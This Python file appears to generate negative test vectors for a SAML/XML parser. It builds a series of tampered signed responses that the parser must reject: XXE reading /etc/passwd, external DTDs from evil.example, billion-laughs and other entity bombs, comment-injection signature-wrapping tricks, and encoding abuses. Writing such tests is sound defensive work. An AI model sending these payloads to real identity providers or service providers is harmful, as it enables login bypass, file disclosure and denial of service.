# SPDX-License-Identifier: Apache-2.0
"""What no XML parser may see. Every vector is the good response but for the piece that is named."""
from making import saml
from making.vector import after, attack, before, good, replaced

LAUGHS = ''.join(f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, 10))


def prolog(text):
    return f'<!DOCTYPE x [{text}]>'


def cut_in_two(message):
    number = saml.HOLDER
    yield attack(6, 'xml.comment', 'in-the-digest', 'saml', 'a comment in DigestValue',
                 after(message, '<ds:DigestValue>', '<!--AAAA-->'))
    yield attack(7, 'xml.comment', 'in-the-national-number', 'saml', 'a comment in the value of rrn',
                 replaced(message, number, f'{number[:6]}<!-- -->{number[6:]}'))
    yield attack(7, 'xml.comment', 'in-the-name-id', 'saml', 'a comment in the NameID',
                 replaced(message, '_t9b6', '_t<!-- -->9b6'))
    yield attack(7, 'xml.cdata', '', 'saml', 'the attacker\'s number as CDATA in the value of rrn',
                 replaced(message, number, f'<![CDATA[{saml.ATTACKER}]]>'))
    yield attack(8, 'xml.instruction', '', 'saml', 'an instruction in front of the value of rrn',
                 replaced(message, number, f'<?p not-an-instruction?>{number}'))


def doctypes(message):
    rows = [(10, 'comment-in-a-declaration', '<!ENTITY % a "<!--"><!NOTATION b PUBLIC "-->">',
             'a declaration that one parser takes for a comment'),
            (11, 'signature-in-another-namespace', '<!ATTLIST Signature xmlns CDATA #FIXED "urn:x">',
             'ATTLIST gives Signature another namespace'),
            (29, 'external-entity', '<!ENTITY e SYSTEM "file:///etc/passwd">', 'an entity that is a file'),
            (29, 'parameter-entity', '<!ENTITY % e SYSTEM "http://evil.example/x.dtd"> %e;',
             'a parameter entity from the web'),
            (30, 'billion-laughs', f'<!ENTITY l0 "ha">{LAUGHS}', 'ten to the ninth entities'),
            (30, 'quadratic', f'<!ENTITY e "{"a" * 20000}">', 'one long entity')]
    for number, slug, text, made in rows:
        yield attack(number, 'xml.doctype', slug, 'saml', made, prolog(text) + message)
    yield attack(29, 'xml.doctype', 'external-dtd', 'saml', 'a DTD from the web',
                 '<!DOCTYPE Response SYSTEM "http://evil.example/x.dtd">' + message)
    yield attack(11, 'xml.doctype', 'id-in-an-entity', 'saml', 'the ID of the assertion is an entity',
                 prolog('<!ENTITY e "_a8e2b6d4f91c04d7aa3b5c7e8f6012d9c">') +
                 replaced(message, 'ID="_a8e2b6d4f91c04d7aa3b5c7e8f6012d9c"', 'ID="&e;"'))
    yield attack(30, 'xml.entity', '', 'saml', 'an entity that nobody declared in place of the number',
                 replaced(message, saml.HOLDER, '&e;'))


def names(message):
    yield attack(12, 'xml.namespace', 'relative', 'saml', 'a relative namespace on the root: nothing is canonicalised',
                 after(message, '<samlp:Response ', 'xmlns:e="1" '))
    yield attack(13, 'xml.namespace', 'undeclared', 'saml', 'an undeclared prefix before ID',
                 replaced(message, saml.STATUS, '<samlp:Status evil:ID="x">'))
    yield attack(13, 'xml.namespace', 'reserved', 'saml', 'the prefix xml bound to another namespace',
                 replaced(message, saml.STATUS, '<samlp:Status xmlns:xml="urn:evil">'))
    yield attack(10, 'xml.attribute.duplicate', '', 'saml', 'the ID of the assertion twice in one tag',
                 replaced(message, 'ID="_a8e2', 'ID="_e666" ID="_a8e2'))
    yield attack(26, 'xml.name', 'no-prefix', 'saml', 'an attribute whose name begins with a colon',
                 replaced(message, saml.STATUS, '<samlp:Status :attr="x">'))
    yield attack(26, 'xml.name', 'no-local-name', 'saml', 'an element whose name ends with a colon',
                 before(message, saml.STATUS, '<samlp:/>'))
    yield attack(26, 'xml.name', 'two-colons', 'saml', 'an element with two colons in its name',
                 before(message, saml.STATUS, '<samlp:x:Status/>'))


def bombs(message):
    many = ' '.join(f'a{count}="x"' for count in range(33))
    spaces = ' '.join(f'xmlns:n{count}="urn:n{count}"' for count in range(33))
    yield attack(31, 'xml.attributes', '', 'saml', '33 attributes in one tag',
                 replaced(message, saml.STATUS, f'<samlp:Status {many}>'))
    yield attack(31, 'xml.attributes', 'namespaces', 'saml', '33 namespaces in one tag',
                 replaced(message, saml.STATUS, f'<samlp:Status {spaces}>'))
    yield attack(31, 'xml.depth', '', 'saml', 'a thousand levels',
                 before(message, saml.STATUS, '<x xmlns="urn:x">' + '<x>' * 1000 + '</x>' * 1000 + '</x>'))
    yield attack(31, 'xml.elements', '', 'saml', '4100 elements',
                 before(message, saml.STATUS, '<x xmlns="urn:x">' + '<x/>' * 4100 + '</x>'))
    yield attack(31, 'xml.size', '', 'saml', '270 000 spaces in front', ' ' * 270000 + message)


def encodings(message):
    declared = '<?xml version="1.0" encoding="{}"?>'
    seven = replaced(message, saml.HOLDER, f'+ADwAIQ--{saml.HOLDER}')
    yield attack(33, 'xml.encoding', 'utf-7', 'saml', 'declared as UTF-7, with +ADw for <',
                 declared.format('UTF-7') + seven)
    yield attack(33, 'xml.encoding', 'latin-1', 'saml', 'declared as ISO-8859-1',
                 declared.format('ISO-8859-1') + message)
    yield attack(33, 'xml.character', 'utf-16', 'saml', 'UTF-16', message.encode('utf-16-le'))
    yield attack(33, 'xml.encoding', 'overlong', 'saml', '< in two octets',
                 message.encode().replace(b'Veerle', b'\xc0\xbcVeerle'))


def spellings(message):
    text = saml.encoded((message + ' ' * (-len(message.encode()) % 3 + 1)).encode())
    yield good('base64', 'saml', 'the good response as it is posted', text, 'b64')
    yield attack(34, 'base64.character', 'url', 'saml', 'the alphabet of base64url', '-_-_' + text, 'b64')
    yield attack(34, 'base64.padding', 'in-the-middle', 'saml', 'padding within', 'IA==' + text, 'b64')
    tail = text.rstrip('=')
    other = {'A': 'B', 'Q': 'R', 'g': 'h', 'w': 'x'}[tail[-1]]
    yield attack(34, 'base64.tail', '', 'saml', 'bits behind the last octet are not zero',
                 tail[:-1] + other + text[len(tail):], 'b64')


def vectors():
    message = saml.response()
    yield good('', 'saml', 'the usual response, its assertion signed', message)
    for of in (cut_in_two, doctypes, names, bombs, encodings, spellings):
        yield from of(message)
